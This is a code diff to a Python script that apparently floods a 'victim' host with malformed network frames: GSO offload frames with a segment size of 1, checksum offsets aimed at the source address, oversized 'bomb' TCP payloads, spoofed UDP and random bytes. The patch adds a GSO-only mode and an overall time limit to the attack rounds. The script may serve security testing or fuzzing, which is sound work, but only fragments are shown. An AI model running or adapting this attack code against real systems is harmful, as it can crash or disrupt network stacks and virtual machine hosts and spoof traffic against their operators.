@@ -106,7 +106,8 @@ def bad_frames(me, victim, server_ip):
     """Each kind of malformed frame, in turn."""
     bomb = tcp(me, victim, b"B" * 60000)
     while True:
-        yield frame(PACKET, os.urandom(rng.randint(0, 1500)))
+        if not plan.get("gso_only"):
+            yield frame(PACKET, os.urandom(rng.randint(0, 1500)))
         yield frame(GSO, os.urandom(rng.randint(0, 1500)))
         yield frame(GSO, vnet(NEEDS_CSUM, GSO_TCPV4, 40, 1, 20, 16) + bomb)  # gso_size 1
         yield frame(GSO, vnet(NEEDS_CSUM, 0, 28, 0, 0, 12) + udp(me, victim, 7777, b"spoof"))  # csum over the source
@@ -129,7 +130,7 @@ def attack():
     ] * 3 + [frame(GSO, vnet(NEEDS_CSUM, GSO_TCPV4, 40, 1, 20, 16) + tcp(me, victim, b"B" * 60000))] * 10:
         sock.sendall(attack_frame)
         result["sent"] += 1
-    deadline = time.monotonic() + plan.get("flood_s", 30)
+    deadline = min(time.monotonic() + plan.get("flood_s", 30), end)
     frames = bad_frames(me, victim, server_ip)
     try:
         while not reader.closed.is_set() and time.monotonic() < deadline:
@@ -147,7 +148,10 @@ def attack():
 
 
 rounds = []
+end = time.monotonic() + plan.get("total_s", 3600)
 for _ in range(plan.get("rounds", 1)):
+    if rounds and time.monotonic() > end:
+        break
     try:
         rounds.append(attack())
     except (OSError, EOFError) as e:  # a refused reconnect, say
